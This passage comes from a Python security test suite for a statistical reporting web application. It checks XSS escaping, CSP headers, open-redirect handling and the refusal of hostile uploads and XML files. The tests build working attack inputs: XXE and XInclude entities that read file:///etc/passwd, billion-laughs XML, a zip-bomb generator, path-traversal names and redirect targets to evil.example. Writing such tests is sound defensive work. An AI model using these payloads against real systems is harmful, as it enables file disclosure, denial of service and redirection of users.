    post(reviewer, f"/reporting/reports/{draft}/approve", {"comment": payload("approve.comment")})
    sdmx = reviewer.get(f"/reporting/reports/{draft}/sdmx.csv").text
    post(reviewer, f"/reporting/reports/{draft}/publish", {})
    # The administrator creates an account with a hostile name, which then signs in.
    post(admin, "/reporting/users", {
        "email": email("xss.user"), "display_name": payload("user.display_name"),
        "password": "long enough pw", "role": "viewer", "country": A})  # fmt: skip
    for what, response in writes:
        probes.add(area, f"write hostile text: {what}", "accepted (303)", outcome(response),
                   response.status_code == 303)  # fmt: skip
    named = site.client("xss.user", raise_server_exceptions=False)

    with site.db() as s:
        attachment = s.execute(select(R.Attachment.id).where(R.Attachment.report_id == draft)
                               .order_by(R.Attachment.id.desc())).scalars().first()  # fmt: skip
    public = site.client(raise_server_exceptions=False)
    pages = {
        "focal point": (focal, [
            "/reporting", f"/reporting/countries/{A}", f"/reporting/countries/{A}/roadmap",
            f"/reporting/actions/{ids['action']}",
            f"/reporting/commitments/{ids['commitment']}/actions/new",
            f"/reporting/reports/{draft}", f"/reporting/reports/{draft}/print",
            f"/reporting/reports/{draft}/audit", f"/reporting/countries/{A}/audit"]),
        "secretariat": (reviewer, ["/reporting", f"/reporting/reports/{draft}",
                                   f"/reporting/countries/{A}/indicators",
                                   f"/reporting/reports/{draft}?lang=fr",
                                   f"/reporting/reports/{draft}?lang=es"]),
        "admin": (admin, ["/reporting/users", f"/reporting/countries/{A}/audit"]),
        "the account itself": (named, ["/account", "/reporting"]),
        "the public": (public, [
            f"/countries/{A}", f"/explore?series={XSS_SERIES}", "/sources",
            f"/reporting/reports/{draft}", f"/api/v1/series/{XSS_SERIES}",
            f"/api/v1/observations?series={XSS_SERIES}&area={A}"]),
    }  # fmt: skip
    shown: dict[str, list[str]] = {tag: [] for tag, _, _ in FIELDS}
    for who, (client, urls) in pages.items():
        for url in urls:
            response = client.get(url)
            text = response.text
            marks = sorted(set(re.findall(r"XSS\[([\w.]+)\]", text)))
            for tag in marks:
                shown.setdefault(tag, []).append(url)
            if url.startswith("/api/"):  # data, not a page: JSON that no browser renders
                kind = response.headers.get("content-type", "")
                sniff = response.headers.get("x-content-type-options")
                ok = response.status_code == 200 and kind == "application/json" and sniff
                probes.add(area, f"read as {who}: GET {url}",
                           "200 application/json with nosniff (text as JSON data)",
                           f"{response.status_code} {kind}, nosniff: {sniff == 'nosniff'}; "
                           f"hostile fields in the data: {len(marks)}", ok)  # fmt: skip
                continue
            bad = unsafe_in(text)
            ok = response.status_code == 200 and not bad and csp_ok(response)
            probes.add(area, f"read as {who}: GET {url}",
                       "200; no raw payload, no javascript: URL, no inline script; CSP "
                       "script-src 'self' without unsafe-inline",
                       f"{response.status_code}; raw: {bad or 'none'}; CSP ok: "
                       f"{csp_ok(response)}; hostile fields shown as text: {len(marks)}",
                       ok)  # fmt: skip
    for tag, who, how in FIELDS:
        where = shown.get(tag, [])
        probes.add(area, f"{tag} ({who}, {how}) = {payload(tag)}",
                   "shown escaped on at least one page, raw nowhere",
                   f"shown escaped on {len(where)} page(s): {', '.join(where) or 'none'}",
                   bool(where))  # fmt: skip

    # The file itself: downloaded, never displayed, under a sandboxing policy.
    got = focal.get(f"/reporting/attachments/{attachment}")
    disposition = got.headers.get("content-disposition", "")
    ok = (got.status_code == 200 and disposition.startswith("attachment;")
          and "\n" not in disposition and got.headers.get("x-content-type-options") == "nosniff"
          and "sandbox" in got.headers.get("content-security-policy", ""))  # fmt: skip
    probes.add(area, "download the attachment with the hostile name",
               "attachment disposition, nosniff, CSP sandbox", f"{got.status_code}; {disposition}",
               ok)  # fmt: skip
    pdf = focal.get(f"/reporting/reports/{draft}/report.pdf")
    probes.add(area, "the report's PDF", "a PDF (no HTML rendering of the text)",
               f"{pdf.status_code} {pdf.headers.get('content-type')}",
               pdf.status_code == 200 and pdf.content.startswith(b"%PDF-"))  # fmt: skip

    # Reflected input: the URL, the sign-in form, refused forms that show what was typed.
    anonymous = client_for(site, ROLES["anonymous"])
    reflected = [
        ("country code in the URL", focal.get(f"/reporting/countries/{SCRIPT}/roadmap")),
        ("sign-in next=javascript:", anonymous.get(f"/signin?next={JS_URL}")),
        ("sign-in next with a breakout", anonymous.get("/signin", params={"next": BREAKOUT})),
        ("sign-in refused, hostile e-mail shown again", anonymous.post("/signin", data={
            "csrf": sign_in_token(anonymous), "email": payload("signin.email"),
            "password": "wrong", "next": JS_URL})),
        ("attachment refused, hostile name in the message", refused_name),
        ("indicators refused, hostile configuration shown again", reviewer.post(
            f"/reporting/countries/{A}/indicators",
            data={"csrf": valid_token(reviewer), "config": payload("config")})),
        ("account refused, hostile e-mail shown again", admin.post("/reporting/users", data={
            "csrf": valid_token(admin), "email": payload("user.email"), "display_name": "x",
            "password": "long enough pw", "role": "viewer", "country": A})),
    ]  # fmt: skip
    for what, response in reflected:
        bad = unsafe_in(response.text)
        probes.add(area, f"reflected: {what}", "refused or shown; no raw payload; CSP as above",
                   f"{response.status_code}; raw: {bad or 'none'}; CSP ok: {csp_ok(response)}",
                   response.status_code < 500 and not bad and csp_ok(response))  # fmt: skip
    targets = (JS_URL, "//evil.example/", "/\\evil.example", "https://evil.example/",
               "/\t/evil.example", "/%2F%2Fevil.example", "\t//evil.example")  # fmt: skip
    for target in targets:
        answer = client_for(site, ROLES["anonymous"])
        signed = answer.post(
            "/signin",
            data={
                "csrf": sign_in_token(answer),
                "next": target,
                "email": email("viewer.npl"),
                "password": PASSWORD,
            },
        )
        location = signed.headers.get("location", "")
        probes.add(
            area,
            f"sign in with next={target!r}",
            "303 to a path of this site",
            outcome(signed),
            signed.status_code == 303 and on_this_site(location),
        )
    # Attachments are published with their report: the public downloads them, as files.
    got = public.get(f"/reporting/attachments/{attachment}")
    probes.add(area, "the public downloads an attachment of the published report",
               "200 as a download (attachments are published with the report: docs)",
               f"{got.status_code}; {got.headers.get('content-disposition', '')[:40]}...",
               got.status_code == 200 and got.headers.get("content-disposition", "")
               .startswith("attachment;"))  # fmt: skip
    formula_probes(probes, template, sdmx, public)
    probes.add(area, "the site's Content-Security-Policy", "no inline script or eval, no "
               "framing, nothing from another host", CSP,
               "script-src 'self'" in CSP and "unsafe" not in CSP
               and "frame-ancestors 'none'" in CSP)  # fmt: skip
    site.app.state.engine.dispose()
    assert probes.failures(area) == []


# ---------------------------------------------------------------------------------------------
# 5. Uploads through the web
# ---------------------------------------------------------------------------------------------


def zip_bytes(members: dict[str, bytes], method=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def xlsx_bomb(megabytes: int = 40) -> bytes:
    """A workbook's parts plus ``megabytes`` of zeros (about as many kB compressed)."""
    return zip_bytes({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
                      "xl/media/padding.bin": bytes(megabytes * 1_000_000)})  # fmt: skip


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
              for i in range(1, 10))
    + "]>"
)  # fmt: skip
XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
PASSWD_MARK = "root:x:0:0"


def xlsx_with_doctype(template: bytes, doctype: str, entity: str) -> bytes:
    """The template with ``doctype`` before its data sheet's root and ``entity`` as a cell."""
    with zipfile.ZipFile(io.BytesIO(template)) as src:
        members = {i.filename: src.read(i) for i in src.infolist()}
    sheet = "xl/worksheets/sheet2.xml"
    text = members[sheet].decode("utf-8")
    text = text.replace("<worksheet", doctype + "<worksheet", 1)
    text = re.sub(r"(<c r=\"A2\"[^>]*>)", r"\1<is><t>&" + entity + r";</t></is>", text, count=1)
    members[sheet] = text.encode("utf-8")
    return zip_bytes(members)


def macro_docx() -> bytes:
    return zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>",
                      "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})  # fmt: skip


PROBLEM_BOX = re.compile(r'<(div|p) class="problem-box[^"]*" role="alert">(.*?)</\1>', re.S)
PROBLEM_ROW = re.compile(r"<tr class=\"\w+\">(?:<td>.*?</td>){4}<td>(.*?)</td></tr>", re.S)


def refusal_text(page: str) -> str:
    """What a page's refusal says, one line: each located problem's message, else the box."""
    boxes = [m.group(2) for m in PROBLEM_BOX.finditer(page)]
    rows = [r for box in boxes for r in PROBLEM_ROW.findall(box)]
    found = " / ".join(re.sub(r"<[^>]+>", " ", part) for part in rows or boxes)
    return " ".join(html_lib.unescape(found).split())


def short(text: str, size: int = 160) -> str:
    return text if len(text) <= size else text[: size - 1] + "…"


def says(message: str, words: str) -> bool:
    """Whether ``message`` holds ``words`` (spaces and case aside: the terminal wraps)."""
    return "".join(words.split()).lower() in "".join(message.split()).lower()


def test_uploads_over_the_limit_of_the_wrong_type_or_named_to_escape_are_refused(
    watched, tmp_path, probes, monkeypatch
):
    site = security.site_of(watched, tmp_path / "site")
    files_dir = tmp_path / "site" / "files"
    site.app.state.data_dir = files_dir
    ids, area = watched.ids[A], "uploads"
    focal = client_for(site, ROLES["focal_point (NPL)"])
    draft = ids["draft"]
    template = security.template_of(site, ids)
    limit = 50_000
    monkeypatch.setenv("TARGET87_MAX_ATTACHMENT_BYTES", str(limit))
    before = fingerprint(site)

    def upload(kind: str, name: str, data: bytes):
        form = {"csrf": valid_token(focal), "version": str(report_version(site, draft))}
        url = f"/reporting/reports/{draft}/{kind}"
        return focal.post(url, data=form, files={"file": (name, data, "application/octet-stream")})

    refused = [  # (route, what, file name, bytes, words the refusal must hold)
        ("attachments", "a PDF over the size limit (set to 50,000 bytes)", "big.pdf",
         pdf_bytes() + b"%" + b"x" * limit, "over the limit"),
        ("attachments", "a body over the limit plus the form margin (refused before parsing)",
         "huge.pdf", b"%PDF-" + b"x" * (limit + 1_100_000), "over the size limit"),
        ("attachments", "an .xlsx that is not a zip", "data.xlsx", b"series,value\n1,2\n",
         "read from the content"),
        ("attachments", "a .csv that is binary", "data.csv", b"\x89PNG\r\n\x1a\n" + bytes(500),
         "only PDF and office documents"),
        ("attachments", "a program renamed .pdf", "report.pdf", b"MZ\x90\x00" + bytes(500),
         "only PDF and office documents"),
        ("attachments", "a PDF renamed .xlsx", "report.xlsx", pdf_bytes(), "content is a PDF"),
        ("attachments", "a .docx carrying macros", "memo.docx", macro_docx(), "without macros"),
        ("attachments", "an empty file", "empty.pdf", b"", "empty"),
        ("template", "an .xlsx that is not a zip", "filled.xlsx", b"series,value\n1,2\n",
         "not a valid xlsx"),
        ("template", "an .xlsx zip bomb (40 MB of zeros in 40 kB)", "filled.xlsx", xlsx_bomb(),
         "zip bomb"),
        ("template", "a .csv that is binary, renamed .xlsx", "filled.xlsx",
         b"\x00\x01\x02" * 300, "not a valid xlsx"),
        ("template", "an .xlsx with billion laughs in its sheet XML", "filled.xlsx",
         xlsx_with_doctype(template, LAUGHS, "lol9"), "DOCTYPE"),
        ("template", "an .xlsx with an external entity to file:///etc/passwd", "filled.xlsx",
         xlsx_with_doctype(template, XXE, "xxe"), "DOCTYPE"),
        ("template", "an .xlsx with a formula", "filled.xlsx",
         _template_with_footnote(site, ids, "=1+1"), "formula"),
        ("template", "an .xlsx named ../../../x.xlsx (not a zip)", "../../../x.xlsx",
         b"not a zip", "not a valid xlsx"),
        ("template", "an .xlsx over TARGET87_MAX_UPLOAD_BYTES (set to 5,000)", "filled.xlsx",
         template, "over the limit"),
        ("template", "an .xlsx over TARGET87_MAX_ATTACHMENT_BYTES (50,000): refused for its "
         "size before any parsing", "filled.xlsx",
         zip_bytes({"xl/workbook.xml": os.urandom(60_000)}, zipfile.ZIP_STORED),
         "larger than the upload limit"),
    ]  # fmt: skip
    for route, what, name, data, words in refused:
        if "MAX_UPLOAD" in what:
            monkeypatch.setenv("TARGET87_MAX_UPLOAD_BYTES", "5000")
        since, files_before = mark(site), files_under(tmp_path)
        response = upload(route, name, data)
        monkeypatch.delenv("TARGET87_MAX_UPLOAD_BYTES", raising=False)
        written = written_since(site, since)
        new_files = sorted(
            str(p.relative_to(tmp_path)) for p in files_under(tmp_path) - files_before
        )
        message = refusal_text(response.text)
        said = says(message, words)
        ok = (response.status_code in (413, 422) and said and not written and not new_files
              and PASSWD_MARK not in response.text)  # fmt: skip
        probes.add(area, f"{route}: {what}",
                   f"refused (413/422) saying '{words}'; nothing written; no file",
                   f"{response.status_code}: '{short(message)}'; tables written: "
                   f"{', '.join(written) or 'none'}; new files: {new_files or 'none'}; "
                   f"/etc/passwd echoed: {PASSWD_MARK in response.text}", ok)  # fmt: skip
    unchanged_probe(probes, area, site, before, "every refused upload above")

    # Path traversal in an attachment's name: the file is kept under its checksum inside the
    # upload folder; the name loses its folders.
    for name, kept in (("../../x.pdf", "x.pdf"), ("..\\..\\..\\x.pdf", "x.pdf"),
                       ("/etc/passwd.pdf", "passwd.pdf"), ("..", None)):  # fmt: skip
        files_before = files_under(tmp_path)
        response = upload("attachments", name, pdf_bytes(f"traversal {name}"))
        new_files = files_under(tmp_path) - files_before
        outside = sorted(str(p) for p in new_files if files_dir / "attachments" not in p.parents)
        with site.db() as s:
            stored = s.execute(select(R.Attachment.filename).where(R.Attachment.report_id == draft)
                               .order_by(R.Attachment.id.desc())).scalars().first()  # fmt: skip
        if kept is None:  # nothing of a name left: refused, it cannot match the PDF content
            ok = response.status_code == 422 and not new_files
            expected = "refused (422): no name left; no file"
        else:
            ok = response.status_code == 303 and stored == kept and not outside
            expected = f"stored as '{kept}' inside the upload folder only"
        probes.add(area, f"attachments: a PDF named {name!r}", expected,
                   f"{outcome(response)}; latest stored name {stored!r}; files outside the "
                   f"upload folder: {outside or 'none'}", ok)  # fmt: skip

    # A zip bomb with a workbook's parts, as an attachment: refused by the declared sizes.
    bomb = xlsx_bomb()
    since = mark(site)
    response = upload("attachments", "bomb.xlsx", bomb)
    message = refusal_text(response.text)
    probes.add(area, "attachments: an .xlsx zip bomb with a workbook's part names",
               "refused (422) saying 'zip bomb'; nothing written",
               f"{response.status_code}: '{short(message)}'; tables written: "
               f"{', '.join(written_since(site, since)) or 'none'}",
               response.status_code == 422 and says(message, "zip bomb")
               and not written_since(site, since))  # fmt: skip
    site.app.state.engine.dispose()
    assert probes.failures(area) == []


# ---------------------------------------------------------------------------------------------
# 6. The file readers of `target87 load`: XML attacks, binary text, bombs
# ---------------------------------------------------------------------------------------------


class _Recorder(http.server.BaseHTTPRequestHandler):
    asked: list[str] = []

    def do_GET(self):  # noqa: N802 (the standard library's name)
        type(self).asked.append(self.path)
        body = b'<!ENTITY leak "FETCHED-DTD">'
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def dtd_server():
    """A local HTTP server that records every request (a DTD fetch would show here)."""
    _Recorder.asked = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", _Recorder.asked
    server.shutdown()
    server.server_close()


def with_prolog(path: Path, prolog: str, entity: str | None = None, encoding="utf-8") -> bytes:
    """An SDMX-ML fixture with ``prolog`` after its XML declaration and ``&entity;`` in an
    observation's comment."""
    head, rest = path.read_text("utf-8").split("\n", 1)
    if entity:
        rest = re.sub(r"<Obs ", f'<Obs COMMENT_OBS="&{entity};" ', rest, count=1)
    text = f"{head}\n{prolog}\n{rest}"
    if encoding != "utf-8":
        text = re.sub(r'encoding="[^"]+"', f'encoding="{encoding.upper()}"', text, count=1)
    return text.encode(encoding)


def cli_message(output: str) -> str:
    """The refusal the command printed, one line."""
    return " ".join(output.split())


def test_the_file_readers_refuse_unsafe_xml_binary_text_and_bombs(
    watched, tmp_path, probes, dtd_server, monkeypatch
):
    from target87.cli import app as cli

    site = security.site_of(watched, tmp_path / "site")
    url, area = site.url, "file readers (target87 load)"
    base, asked = dtd_server
    monkeypatch.chdir(tmp_path)  # file names in the messages: relative, the same every run
    (tmp_path / "in").mkdir()
    sdg = Path(shutil.copy(SDMX_FIXTURES / "sdg_SL_TLF_CHLDEC_structure_specific.xml", "in"))
    ilo = "ilo_DF_SDG_ALL_SDG_B871_SEX_AGE_RT"
    xinclude = sdg.read_text("utf-8").replace(
        "<Obs ", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        'href="file:///etc/passwd" parse="text"/><Obs ', 1)  # fmt: skip
    template = security.template_of(site, watched.ids[A])
    cases = [  # (what, file name, bytes, words of the refusal)
        ("SDMX-ML with billion laughs", "laughs.xml", with_prolog(sdg, LAUGHS, "lol9"),
         "DOCTYPE"),
        ("SDMX-ML with an external entity file:///etc/passwd", "xxe.xml",
         with_prolog(sdg, XXE, "xxe"), "DOCTYPE"),
        ("SDMX-ML whose DOCTYPE fetches an external DTD (a local HTTP server)", "dtd.xml",
         with_prolog(sdg, f'<!DOCTYPE m SYSTEM "{base}/evil.dtd">', "leak"), "DOCTYPE"),
        ("SDMX-ML with a remote parameter entity (a local HTTP server)", "param.xml",
         with_prolog(sdg, f'<!DOCTYPE m [<!ENTITY % r SYSTEM "{base}/p.dtd"> %r;]>', "leak"),
         "DOCTYPE"),
        ("SDMX-ML in UTF-16 with an external entity", "utf16.xml",
         with_prolog(sdg, XXE, "xxe", "utf-16"), "refused"),
        ("SDMX-ML with an XInclude of /etc/passwd", "xinclude.xml", xinclude.encode(), "refused"),
        ("a .csv that is binary", "data.csv", b"\x89PNG\r\n\x1a\n" + bytes(2000), "binary"),
        ("an .xlsx that is not a zip (read as the CSV it is)", "data.xlsx",
         b"series,ref_area\nA,B\n", "missing column"),
        ("an .xlsx zip bomb", "bomb.xlsx", xlsx_bomb(), "zip bomb"),
        ("an .xlsx with billion laughs", "laughs.xlsx",
         xlsx_with_doctype(template, LAUGHS, "lol9"), "DOCTYPE"),
        ("an .xlsx with an external entity file:///etc/passwd", "xxe.xlsx",
         xlsx_with_doctype(template, XXE, "xxe"), "DOCTYPE"),
    ]  # fmt: skip
    # The DSD saved beside an SDMX-ML file (as `target87 fetch` does) is checked the same way.
    sidecar = tmp_path / "sidecar"
    sidecar.mkdir()
    shutil.copyfile(SDMX_FIXTURES / f"{ilo}.xml", sidecar / f"{ilo}.xml")
    (sidecar / f"{ilo}.structure.xml").write_bytes(
        with_prolog(SDMX_FIXTURES / f"{ilo}.structure.xml", XXE)
    )
    cases.append(("a DSD beside the SDMX-ML data with an external entity", None, None,
                  "DOCTYPE"))  # fmt: skip
    runner = CliRunner()
    source = "ilo_unicef_2021"

    def load(path: Path):
        return runner.invoke(cli, ["--database-url", url, "load", str(path), "--source", source])

    before = fingerprint(site)
    for what, name, data, words in cases:
        if name is None:
            path = Path("sidecar", f"{ilo}.xml")
        else:
            path = Path("in", name)
            path.write_bytes(data)
        since = mark(site)
        result = load(path)
        written = written_since(site, since)
        message = cli_message(result.output)
        said = says(message, words)
        leaked = PASSWD_MARK in result.output or "FETCHED-DTD" in result.output
        ok = result.exit_code == 2 and said and not written and not leaked and not asked
        probes.add(area, what, f"refused (exit 2) saying '{words}'; nothing written; "
                   "no file or network read",
                   f"exit {result.exit_code}: '{short(message)}'; tables written: "
                   f"{', '.join(written) or 'none'}; passwd/DTD text echoed: {leaked}; "
                   f"HTTP requests to the DTD server: {len(asked)}", ok)  # fmt: skip
    monkeypatch.setenv("TARGET87_MAX_UPLOAD_BYTES", "1000")
    since = mark(site)
    result = load(sdg)
    monkeypatch.delenv("TARGET87_MAX_UPLOAD_BYTES")
    written, message = written_since(site, since), cli_message(result.output)
    probes.add(
        area,
        "a file over TARGET87_MAX_UPLOAD_BYTES (set to 1,000)",
        "refused (exit 2) saying 'over the limit'; nothing written",
        f"exit {result.exit_code}: '{short(message)}'; tables written: "
        f"{', '.join(written) or 'none'}",
        result.exit_code == 2 and says(message, "over the limit") and not written,
    )
    unchanged_probe(probes, area, site, before, "every refused load above")
    control = load(sdg)  # the same file, unchanged: loads (the probes above test the attack)
    probes.add(area, "control: the unmodified SDMX-ML fixture", "loads (exit 0)",
               f"exit {control.exit_code}: '{short(cli_message(control.output))}'",
               control.exit_code == 0)  # fmt: skip
    site.app.state.engine.dispose()
    assert probes.failures(area) == []


# ---------------------------------------------------------------------------------------------
# 7. kill -9 during a load: covered elsewhere (a real process, slow); referenced here
# ---------------------------------------------------------------------------------------------


def test_kill_9_during_a_load_is_covered_by_the_load_log_test(probes):
    from tests.ingest import test_load_log_atomic as atomic

    name = "test_a_real_target87_load_killed_with_sigkill_changes_nothing"
    test = getattr(atomic, name, None)
    ok = callable(test)
    probes.add(
        "kill -9 during a load",
        f"tests/ingest/test_load_log_atomic.py::{name}",
        "present: a real `target87 load --replace` of 100,000 rows killed with SIGKILL "
        "mid-write leaves the database exactly as before (SQLite and PostgreSQL)",
        "present (run it on its own: it is marked slow)" if ok else "MISSING",
        ok,
    )
    assert ok, f"{name} is gone: the kill -9 probe has no test any more"
    assert os.path.exists(atomic.__file__)
